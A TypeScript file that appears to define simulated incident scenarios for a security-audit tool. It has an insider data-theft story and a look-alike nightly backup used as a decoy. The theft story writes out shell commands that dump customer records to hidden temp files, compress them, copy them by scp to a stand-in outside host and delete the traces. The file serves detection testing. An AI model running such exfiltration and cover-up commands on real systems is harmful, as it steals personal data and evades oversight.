import type { Step, Story } from './story'

const MINUTE = 60_000
const DAY = 86_400_000
const NIGHTS = 6

/** A little every night, by one person. */
export const DATA_THEFT: Story = {
  name: 'data-theft',
  title: 'Customer data leaves a database machine, a little every night',
  description:
    'On six nights lena.fiske, who otherwise works by day, signs in from home, dumps a slice of the customers on ' +
    'db-04, packs it small and copies it to a host outside.',
  before: 12 * DAY,
  utcHour: 0,
  utcMinute: 40,
  lasts: (NIGHTS - 1) * DAY + 60 * MINUTE,
  actors: ['lena.fiske', 'db-04'],
  steps(random) {
    const steps: Step[] = []
    for (let night = 0; night < NIGHTS; night++) {
      const at = night * DAY + Math.floor(random() * 25) * MINUTE
      const shared = { user: 'lena.fiske', address: '192.0.2.139' }
      const slice = `c${String(night + 1).padStart(2, '0')}`
      const range = `id between ${night * 40_000} and ${night * 40_000 + 39_999}`
      steps.push({ kind: 'login', at, ...shared })
      steps.push({
        kind: 'visit',
        at: at + MINUTE,
        ...shared,
        machine: 'db-04',
        pace: 40_000,
        commands: [
          `psql crm -c "\\copy (select * from customers where ${range}) to '/tmp/.${slice}.csv' csv"`,
          `tar -czf /tmp/.${slice}.tgz -C /tmp .${slice}.csv`,
          `scp -q -P 2222 /tmp/.${slice}.tgz sync@203.0.113.90:in/`,
          `rm -f /tmp/.${slice}.csv /tmp/.${slice}.tgz`,
        ],
      })
      steps.push({ kind: 'logout', at: at + 12 * MINUTE, ...shared })
    }
    return steps
  },
}

const BACKUPS = 80

/** Looks like it, and is the backup, at the same minute every night for as long as the audit reaches. */
export const NIGHTLY_BACKUP: Story = {
  name: 'nightly-backup',
  title: 'The nightly backup',
  description:
    'svc-backup archives and copies the databases of db-02 every night at 01:30 UTC to a machine inside, as it ' +
    'always has.',
  looksLike: 'data-theft',
  before: (BACKUPS + 1) * DAY,
  utcHour: 1,
  utcMinute: 30,
  lasts: BACKUPS * DAY + 60 * MINUTE,
  actors: ['svc-backup', 'db-02'],
  steps(_random, scale) {
    const steps: Step[] = []
    const nights = Math.round(7 + (BACKUPS - 7) * scale)
    for (let night = BACKUPS - nights; night < BACKUPS; night++) {
      steps.push({
        kind: 'visit',
        at: night * DAY,
        user: 'svc-backup',
        machine: 'db-02',
        pace: 60_000,
        commands: [
          'pg_dumpall -U backup | gzip -1 > /backup/nightly.sql.gz',
          'tar -czf /backup/etc.tgz /etc/postgresql',
          'rsync -a --delete /backup/ files-01:/srv/share/backup/db-02/',
        ],
      })
    }
    return steps
  },
}
